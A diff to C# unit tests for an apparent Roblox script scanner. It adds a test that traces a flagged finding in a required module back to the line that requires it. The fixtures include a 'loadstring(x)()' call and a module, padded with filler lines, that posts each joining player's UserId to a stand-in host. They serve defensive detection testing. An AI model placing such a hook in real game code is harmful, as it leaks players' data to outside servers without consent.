@@ -37,14 +37,25 @@ public sealed class ScanResultTests
     public void Scripts_inside_a_model_are_scanned_under_their_path()
     {
         var model = new RobloxInstance("Model");
-        var script = new RobloxInstance("Script");
-        script.Properties["Name"] = new PropertyValue.Text("Door");
-        script.Properties["Source"] = new PropertyValue.Text("loadstring(x)()");
-        model.Add(script);
+        model.Add(Script("Script", "Door", "loadstring(x)()"));
 
         var result = ScanResult.Of(RobloxFile.Read(DocumentWriter.WriteBinary([model])), ScanOptions.Default, Baseline.Empty, Today);
 
         Assert.Equal(("refuse", "Model/Door", "Script"), (result.Verdict, result.Scripts[0].Path, result.Scripts[0].ClassName));
+    }
+
+    [Fact]
+    public void What_a_module_hands_to_the_engine_is_told_where_it_was_required()
+    {
+        var model = new RobloxInstance("Model");
+        var before = string.Concat(Enumerable.Repeat("local x = 1\n", 50));
+        model.Add(Script("ModuleScript", "Joins", before + "game.Players.PlayerAdded:Connect(function(p) game:GetService('HttpService'):PostAsync('https://x.example', p.UserId) end)"));
+        model.Add(Script("Script", "Main", "\nrequire(script.Parent.Joins)"));
+
+        var result = ScanResult.Of(RobloxFile.Read(DocumentWriter.WriteBinary([model])), ScanOptions.Default, Baseline.Empty, Today);
+
+        var found = Assert.Single(result.Scripts.Single(script => script.Path == "Model/Main").Findings, finding => finding.Rule == "privacy-player-data-leaves");
+        Assert.Equal(2, found.Location.Line);
     }
 
     [Fact]
@@ -68,6 +79,14 @@ public sealed class ScanResultTests
 
         Assert.Equal((8, 7, 1, 5, 4), (metrics.Lines, metrics.CodeLines, metrics.Functions, metrics.Cyclomatic, metrics.Nesting));
         Assert.InRange(metrics.CommentRatio, 0.05, 0.25);
+    }
+
+    private static RobloxInstance Script(string className, string name, string source)
+    {
+        var script = new RobloxInstance(className);
+        script.Properties["Name"] = new PropertyValue.Text(name);
+        script.Properties["Source"] = new PropertyValue.Text(source);
+        return script;
     }
 
     private static ScanResult Scan(string script) => ScanResult.Of("script", LuauSource.FromText(script), ScanOptions.Default, Baseline.Empty, Today);
